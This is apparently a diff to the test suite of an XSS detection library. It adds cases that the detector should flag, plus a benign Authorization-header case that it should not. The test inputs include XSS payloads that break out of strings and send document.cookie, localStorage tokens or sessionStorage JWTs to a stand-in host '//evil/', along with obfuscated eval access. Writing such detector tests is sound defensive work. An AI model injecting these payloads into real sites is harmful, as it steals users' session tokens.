@@ -49,6 +49,8 @@ describe('findJsScript', () => {
     ['a=/ev/.source+/al/.source;top[a](1)', XSS_RULES.jsObfuscatedAccess],
     ['/con/.source+/firm/.source', XSS_RULES.jsObfuscatedAccess],
     [`new Image().src='//evil/?c='+document.cookie`, XSS_RULES.cookieExfiltration],
+    ["';new Image().src='//evil/?'+localStorage.getItem('token');//", XSS_RULES.cookieExfiltration],
+    ['";fetch(\'//evil/?t=\'+window.sessionStorage.jwt)//', XSS_RULES.cookieExfiltration],
     ['document.cookie', XSS_RULES.jsSensitiveProperty],
     ["eval('2 + 2')", XSS_RULES.jsSinkCall],
   ])('flags %j with its rule', (input, rule) => {
@@ -84,6 +86,7 @@ describe('findJsScript', () => {
     '$.getScript("/js/app.js", init)',
     'const total = items.map(price, tax)',
     'registered via the `--import` command-line option',
+    "headers: { Authorization: 'Bearer ' + localStorage.getItem('token') }",
   ])('raises no critical paranoia-1 rule on %j', (input) => {
     expect(paranoiaOne(input)).toEqual([]);
   });
